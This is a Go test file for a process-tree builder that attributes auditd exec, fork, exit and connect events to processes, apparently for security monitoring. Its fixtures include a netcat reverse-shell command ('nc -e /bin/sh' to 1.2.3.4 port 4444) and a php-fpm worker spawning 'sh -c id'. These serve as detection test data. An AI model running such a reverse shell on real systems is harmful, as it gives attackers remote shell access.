package proctree

import (
	"slices"
	"testing"
	"time"
)

// ev builds a process event at second s for tree tests.
func ev(s int, kind Kind, pid, ppid int, exe string, args ...string) *Event {
	return &Event{Kind: kind, Time: time.Unix(int64(1000+s), 0).UTC(), PID: pid, PPID: ppid, Exe: exe, Args: args, Success: true, Source: "auditd"}
}

func TestTree(t *testing.T) {
	tests := []struct {
		name  string
		evs   []*Event
		check func(t *testing.T, tr *Tree)
	}{
		{"pid reuse gives a new node", []*Event{
			ev(1, KindExec, 100, 10, "/bin/sh", "sh", "-c", "id"),
			ev(5, KindExec, 100, 20, "/bin/date", "date"),
		}, func(t *testing.T, tr *Tree) {
			ps := tr.ByPID("", 100)
			if len(ps) != 2 || ps[0].Parent.Key.PID != 10 || ps[1].Parent.Key.PID != 20 {
				t.Fatalf("got %d processes", len(ps))
			}
		}},
		{"successive execs stay one node", []*Event{
			ev(1, KindExec, 100, 10, "/bin/sh", "sh", "-c", "exec nc -e /bin/sh 1.2.3.4 4444"),
			ev(2, KindExec, 100, 10, "/bin/nc", "nc", "-e", "/bin/sh", "1.2.3.4", "4444"),
		}, func(t *testing.T, tr *Tree) {
			ps := tr.ByPID("", 100)
			if len(ps) != 1 || len(ps[0].Execs) != 2 || ps[0].Exe != "/bin/nc" {
				t.Fatalf("got %d processes, %+v", len(ps), ps)
			}
		}},
		{"placeholder parent is filled later", []*Event{
			ev(1, KindExec, 100, 50, "/bin/sh", "sh"),
			ev(2, KindAccept, 50, 10, "/usr/sbin/php-fpm8.2"),
		}, func(t *testing.T, tr *Tree) {
			p := tr.ByPID("", 100)[0]
			if p.Parent == nil || p.Parent.Placeholder || p.Parent.Exe != "/usr/sbin/php-fpm8.2" || p.Parent.Parent == nil || p.Parent.Parent.Key.PID != 10 {
				t.Fatalf("parent = %+v", p.Parent)
			}
			anc, truncated := tr.Ancestors(p)
			if len(anc) != 2 || !truncated {
				t.Errorf("ancestors %d truncated=%t, want 2 and a truncated chain (pid 10 never seen)", len(anc), truncated)
			}
		}},
		{"orphan re-parented to init keeps its parent", []*Event{
			ev(1, KindExec, 50, 10, "/bin/bash", "bash"),
			ev(2, KindExec, 100, 50, "/bin/sleep", "sleep", "99"),
			ev(9, KindConnect, 100, 1, "/bin/sleep"),
		}, func(t *testing.T, tr *Tree) {
			ps := tr.ByPID("", 100)
			if len(ps) != 1 || !ps[0].Reparented || ps[0].Parent.Key.PID != 50 {
				t.Fatalf("got %+v", ps)
			}
		}},
		{"fork makes the child before its exec", []*Event{
			ev(1, KindExec, 10, 1, "/usr/sbin/cron", "cron"),
			func() *Event { e := ev(2, KindFork, 10, 1, "/usr/sbin/cron"); e.Child = 11; return e }(),
			ev(3, KindExec, 11, 10, "/bin/sh", "sh", "-c", "job"),
		}, func(t *testing.T, tr *Tree) {
			ps := tr.ByPID("", 11)
			if len(ps) != 1 || ps[0].Parent.Key.PID != 10 || len(ps[0].Execs) != 1 || !ps[0].Key.Start.Equal(time.Unix(1002, 0)) {
				t.Fatalf("got %+v", ps)
			}
		}},
		{"exit ends the identity", []*Event{
			ev(1, KindExec, 100, 10, "/bin/sh", "sh"),
			ev(2, KindExit, 100, 10, "/bin/sh"),
			ev(3, KindExec, 100, 10, "/bin/sh", "sh"),
		}, func(t *testing.T, tr *Tree) {
			if n := len(tr.ByPID("", 100)); n != 2 {
				t.Fatalf("got %d processes, want 2", n)
			}
		}},
		{"hosts never share processes", []*Event{
			func() *Event { e := ev(1, KindExec, 100, 10, "/bin/sh", "sh"); e.Host = "a"; return e }(),
			func() *Event { e := ev(1, KindExec, 100, 10, "/bin/sh", "sh"); e.Host = "b"; return e }(),
		}, func(t *testing.T, tr *Tree) {
			if n := len(tr.ByPID("", 100)); n != 2 || len(tr.ByPID("a", 100)) != 1 {
				t.Fatalf("got %d processes, want 2", n)
			}
		}},
		{"container id from the shim's argv", []*Event{
			ev(1, KindExec, 900, 1, "/usr/bin/containerd-shim-runc-v2", "/usr/bin/containerd-shim-runc-v2", "-namespace", "moby", "-id", "4f1c2d3e4f1c2d3e4f1c2d3e4f1c2d3e4f1c2d3e4f1c2d3e4f1c2d3e4f1c2d3e", "-address", "/run/containerd/containerd.sock"),
			ev(2, KindExec, 901, 900, "/usr/sbin/php-fpm8.2", "php-fpm: master process"),
			ev(3, KindExec, 950, 901, "/bin/dash", "sh", "-c", "id"),
		}, func(t *testing.T, tr *Tree) {
			p := tr.ByPID("", 950)[0]
			if c := tr.ContainerOf(p); c.ID != "4f1c2d3e4f1c2d3e4f1c2d3e4f1c2d3e4f1c2d3e4f1c2d3e4f1c2d3e4f1c2d3e" {
				t.Fatalf("container = %+v", c)
			}
			if c := tr.ContainerOf(tr.ByPID("", 900)[0]); c.ID == "" {
				t.Errorf("the shim itself should carry its container id")
			}
		}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			tr := NewTree()
			for _, e := range tt.evs {
				tr.Observe(e)
				if e.Proc == nil {
					t.Fatalf("event of pid %d not attributed", e.PID)
				}
			}
			tt.check(t, tr)
		})
	}
}

// Equal argvs are shared between processes; argvs that only join to the
// same text stay apart.
func TestTreeInternArgs(t *testing.T) {
	tr := NewTree()
	cases := []struct {
		a, b  []string
		share bool
	}{
		{[]string{"sh", "-c", "date"}, []string{"sh", "-c", "date"}, true},
		{[]string{"sh", "-c", "a b"}, []string{"sh", "-c", "a", "b"}, false},
		{[]string{"ab", ""}, []string{"a", "b"}, false},
		{[]string{""}, []string{}, false},
	}
	for _, c := range cases {
		x, y := tr.internArgs(c.a), tr.internArgs(c.b)
		if !slices.Equal(x, c.a) || !slices.Equal(y, c.b) {
			t.Fatalf("%q, %q: interned as %q, %q", c.a, c.b, x, y)
		}
		shared := len(x) > 0 && len(y) > 0 && &x[0] == &y[0]
		if shared != c.share {
			t.Errorf("%q and %q: shared %v, want %v", c.a, c.b, shared, c.share)
		}
	}
}
